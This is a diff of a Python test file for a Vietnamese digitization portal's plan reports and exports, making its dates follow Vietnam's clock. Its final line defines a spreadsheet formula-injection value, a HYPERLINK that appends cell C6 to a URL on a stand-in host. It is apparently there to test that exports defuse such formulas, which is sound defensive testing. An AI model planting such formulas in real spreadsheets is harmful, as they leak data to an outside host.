@@ -1,11 +1,14 @@
 """The plan's figures against hand-computed expectations, across the phase boundaries; the yearly
-report as CSV, XLSX and PDF, read back."""
+report as CSV, XLSX and PDF, read back.
+
+The data are digitized at the clock's time, so the report is for the clock's year in Vietnam: each
+test runs at an ordinary instant and on both sides of a Vietnamese new year (`at_every_instant`)."""
 
 from __future__ import annotations
 
 import csv
 import io
-from datetime import UTC, datetime
+from datetime import datetime, timedelta
 
 import pytest
 from sqlalchemy import update
@@ -14,14 +17,15 @@ from portal import plan
 from portal.extensions import db
 from portal.models import InventoryCount, Result
 
-from .conftest import CCCD_B, UNIT_A, UNIT_B, make_result
+from .conftest import CCCD_B, UNIT_A, UNIT_B, VIETNAM, at_every_instant, make_result, vietnam_now
 
 PRICE = 2000
 
 
 @pytest.fixture
-def dataset(world, pdfs):
-    """Unit A: one result per side of each phase boundary, in every state; unit B: one result."""
+def dataset(clock, world, pdfs):
+    """Unit A: one result per side of each phase boundary, in every state, digitized now; unit B: one
+    result; one result of unit A moved to January last year."""
     from portal.operations import results as ops
 
     def made(n, year, *, published=True, pages_two=False, **fields):
@@ -40,7 +44,7 @@ def dataset(world, pdfs):
     r["B"] = make_result(world, pdfs[10], staff="staff_b", reviewer="reviewer_b", document_number="11/GP-SKHCN",
                          issue_date="15/03/2010", valid_until=None, holder_id=CCCD_B)
     # One result of unit A digitized and published the year before.
-    last_year = datetime(2025, 6, 1, tzinfo=UTC)
+    last_year = datetime(vietnam_now().year - 1, 1, 15, tzinfo=VIETNAM)  # before the last 12 months
     db.session.execute(update(Result).where(Result.id == r[2016].id).values(
         digitized_at=last_year, checked_at=last_year, published_at=last_year))
     db.session.commit()
@@ -51,7 +55,8 @@ def dataset(world, pdfs):
     return r
 
 
-def test_progress_by_phase_and_unit(world, dataset):
+@at_every_instant
+def test_progress_by_phase_and_unit(clock, world, dataset):
     figures = plan.progress(world["admin"])
     a, b = world["staff_a"].unit_id, world["staff_b"].unit_id
     expected = {  # phase: (to digitize, digitized, checked, published, pages)
@@ -69,30 +74,40 @@ def test_progress_by_phase_and_unit(world, dataset):
     assert figures.cells[(b, 3)].digitized == 1 and figures.cells[(b, 3)].state == plan.NO_INVENTORY
     assert figures.born_digital == {a: 1}
     assert figures.phase_total(3).digitized == 4 and figures.phase_total(3).to_digitize == 3
+    # The chart of the last 12 months ends with this month in Vietnam: unit A's eight results digitized
+    # now, not the one of last January, nor the born-digital one.
+    months = plan.progress(world["staff_a"]).months
+    assert len(months) == 12 and months[-1] == (f"{vietnam_now():%m/%Y}", 8) and sum(n for _m, n in months) == 8
     # Staff see their own unit only.
     assert [u.code for u in plan.progress(world["staff_b"]).units] == [UNIT_B]
 
 
-def test_the_yearly_report_by_unit(world, dataset):
-    rows = {row.unit.code: row for row in plan.yearly_report(world["admin"], 2026, PRICE)}
+@at_every_instant
+def test_the_yearly_report_by_unit(clock, world, dataset):
+    year = vietnam_now().year
+    rows = {row.unit.code: row for row in plan.yearly_report(world["admin"], year, PRICE)}
     a, b = rows[UNIT_A], rows[UNIT_B]
-    # 2026: everything of unit A but the 2016 result, born-digital 2023 excluded: 1995, 1996, 2005,
+    # This year: everything of unit A but the 2016 result, born-digital 2023 excluded: 1995, 1996, 2005,
     # 2006 (2 pages), 2015, 2015b, 2021, 2022 -> 8 results, 9 pages; published in the year: all but
     # the two drafts -> 6 results, 7 pages (the 2005 one revoked since, the 2015 one replaced since).
     assert (a.digitized, a.digitized_pages, a.checked, a.published, a.published_pages) == (8, 9, 6, 6, 7)
     assert a.cost == 9 * PRICE
-    # Inventory 4 + 3 + 2 + 6 = 15; digitized by the end of 2026 and formed before 2022: 8 of them.
+    # Inventory 4 + 3 + 2 + 6 = 15; digitized by the end of the year and formed before 2022: 8 of them.
     assert (a.to_digitize, a.remaining, a.remaining_pages) == (15, 7, 27 - 9)
     assert (b.digitized, b.published, b.to_digitize, b.remaining) == (1, 1, 0, 0)
-    before = {row.unit.code: row for row in plan.yearly_report(world["admin"], 2025, PRICE)}[UNIT_A]
+    before = {row.unit.code: row for row in plan.yearly_report(world["admin"], year - 1, PRICE)}[UNIT_A]
     assert (before.digitized, before.published, before.remaining) == (1, 1, 14)
+    after = {row.unit.code: row for row in plan.yearly_report(world["admin"], year + 1, PRICE)}[UNIT_A]
+    assert (after.digitized, after.published, after.remaining) == (0, 0, 7)
 
 
-def test_report_files_read_back(app, world, dataset, tmp_path):
+@at_every_instant
+def test_report_files_read_back(clock, app, world, dataset, tmp_path):
+    year = vietnam_now().year
     runner = app.test_cli_runner()
     for fmt in ("csv", "xlsx", "pdf"):
         out = tmp_path / f"bao-cao.{fmt}"
-        result = runner.invoke(args=["report", "2026", "--format", fmt, "--out", str(out), "--price", str(PRICE)])
+        result = runner.invoke(args=["report", str(year), "--format", fmt, "--out", str(out), "--price", str(PRICE)])
         assert result.exit_code == 0, result.output
     lines = list(csv.reader(io.StringIO((tmp_path / "bao-cao.csv").read_text(encoding="utf-8"))))
     assert lines[0][:4] == ["unit_code", "unit_name", "digitized", "digitized_pages"] and len(lines) == 3
@@ -103,7 +118,7 @@ def test_report_files_read_back(app, world, dataset, tmp_path):
 
     sheet = load_workbook(tmp_path / "bao-cao.xlsx").active
     values = [[c.value for c in r] for r in sheet.iter_rows()]
-    assert "NĂM 2026" in values[1][0]
+    assert f"NĂM {year}" in values[1][0]
     data = next(v for v in values if v[0] == UNIT_A)
     assert data[2:] == [8, 9, 6, 6, 7, 9 * PRICE, 15, 7, 18]
     assert values[-1][1] == "Tổng cộng" and values[-1][2] == 9
@@ -111,18 +126,21 @@ def test_report_files_read_back(app, world, dataset, tmp_path):
     from pypdf import PdfReader
 
     text = PdfReader(tmp_path / "bao-cao.pdf").pages[0].extract_text()
-    for words in ("BÁO CÁO KẾT QUẢ SỐ HÓA", "NĂM 2026", "Phòng Quản lý chuyên ngành", "18.000", "Tổng cộng"):
+    for words in ("BÁO CÁO KẾT QUẢ SỐ HÓA", f"NĂM {year}", "Phòng Quản lý chuyên ngành", "18.000", "Tổng cộng"):
         assert words in text, words
-    bad = runner.invoke(args=["report", "2026", "--format", "doc", "--out", str(tmp_path / "x")])
+    bad = runner.invoke(args=["report", str(year), "--format", "doc", "--out", str(tmp_path / "x")])
     assert bad.exit_code != 0
 
 
-def test_the_dashboard_inventory_form_and_report_downloads(app, client, world, dataset):
+@at_every_instant
+def test_the_dashboard_inventory_form_and_report_downloads(clock, app, client, world, dataset):
     from .conftest import csrf_token, login
 
+    year = vietnam_now().year
     login(client, "staff_a")
     page = client.get("/admin/plan").get_data(as_text=True)
     assert "<svg" in page and "Giai đoạn 5 (1995 trở về trước)" in page and "Trễ hạn" in page
+    assert f'max="{year}" value="{year}"' in page  # the report asked for by default is this year's
     assert "Chi cục Tiêu chuẩn" not in page  # unit B is not theirs
     token = csrf_token(client, "/admin/plan")
     done = client.post("/admin/plan", data={"csrf_token": token, "unit_id": world["staff_a"].unit_id, "phase": 4,
@@ -135,11 +153,43 @@ def test_the_dashboard_inventory_form_and_report_downloads(app, client, world, d
     assert other_unit.status_code == 200  # refused by the form: not one of their units
     assert plan.progress(world["staff_b"]).cells[(world["staff_b"].unit_id, 4)].to_digitize is None
     for fmt, kind in (("csv", "text/csv"), ("xlsx", "spreadsheetml"), ("pdf", "application/pdf")):
-        response = client.get(f"/admin/plan/report?year=2026&format={fmt}")
+        response = client.get(f"/admin/plan/report?year={year}&format={fmt}")
         assert response.status_code == 200 and kind in response.mimetype
-    csv_text = client.get("/admin/plan/report?year=2026&format=csv").get_data(as_text=True)
+        assert f"bao-cao-so-hoa-{year}.{fmt}" in response.headers["Content-Disposition"]
+    csv_text = client.get(f"/admin/plan/report?year={year}&format=csv").get_data(as_text=True)
     assert UNIT_A in csv_text and UNIT_B not in csv_text
-    assert client.get("/admin/plan/report?year=2026&format=doc").status_code == 404
+    # Without a year, this year in Vietnam: unit A's eight results digitized now.
+    unasked = client.get("/admin/plan/report?format=csv")
+    assert f"bao-cao-so-hoa-{year}.csv" in unasked.headers["Content-Disposition"]
+    assert next(csv.reader(io.StringIO(unasked.get_data(as_text=True).splitlines()[1])))[2] == "8"
+    assert client.get(f"/admin/plan/report?year={year}&format=doc").status_code == 404
+
+
+def test_a_phase_deadline_is_judged_by_the_day_in_vietnam(clock, world, pdfs):
+    """Phase 5 ends on 31/12/2025, Vietnam's day: 23:30 there is 16:30 UTC (and 06:30 on 1 January
+    in Kiritimati); 00:00 on 1 January there is still 31 December in UTC."""
+    from portal.operations.plan import record_inventory
+
+    a, b = world["staff_a"].unit, world["staff_b"].unit
+    record_inventory(world["admin"], a, 5, 2, 2, "")
+    record_inventory(world["admin"], b, 5, 1, 1, "")
+
+    def phase_5(unit):
+        return plan.progress(world["admin"]).cells[(unit.id, 5)].state
+
+    clock.move_to(datetime(2025, 12, 31, 23, 30, tzinfo=VIETNAM))
+    make_result(world, pdfs[0], document_number="1/GP-SKHCN", issue_date="15/03/1990", valid_until=None)
+    make_result(world, pdfs[1], staff="staff_b", document_number="2/GP-SKHCN", issue_date="15/03/1991",
+                valid_until=None)
+    assert phase_5(a) == plan.AT_RISK  # half done on the last day: not late yet
+    assert phase_5(b) == plan.MET  # all done on the last day
+
+    clock.move_to(datetime(2026, 1, 1, 0, 0, tzinfo=VIETNAM))
+    assert phase_5(a) == plan.LATE and phase_5(b) == plan.MET
+    make_result(world, pdfs[2], document_number="3/GP-SKHCN", issue_date="15/03/1992", valid_until=None)
+    assert phase_5(a) == plan.FINISHED_LATE  # the last one came a minute after the deadline
+    clock.shift(timedelta(days=30))
+    assert phase_5(a) == plan.FINISHED_LATE and phase_5(b) == plan.MET
 
 
 FORMULA_NAME = '=HYPERLINK("http://x.test/?d="&C6,"Bấm vào đây")'
